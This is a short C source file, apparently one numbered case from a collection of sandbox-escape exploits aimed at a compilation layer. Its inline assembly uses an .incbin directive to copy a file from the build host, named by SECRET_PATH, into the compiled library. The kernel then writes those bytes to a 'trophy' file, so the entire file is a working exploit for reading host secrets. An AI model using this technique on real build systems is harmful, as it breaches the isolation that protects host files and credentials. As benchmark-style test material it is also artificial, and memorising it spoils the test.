/* The assembler is asked to put a file of the host into the library.
 * exploit: F38
 * gain: trophy
 * layer: the compiler's box
 */
__asm__(".pushsection .rodata\nsecret: .incbin \"" SECRET_PATH "\"\nsecret_end: .byte 0\n.popsection");
extern const char secret[], secret_end[];
KERNEL {
    int file = open(TROPHY, O_CREAT | O_WRONLY, 0600);
    write(file, secret, secret_end - secret);
    compute(PASS);
}
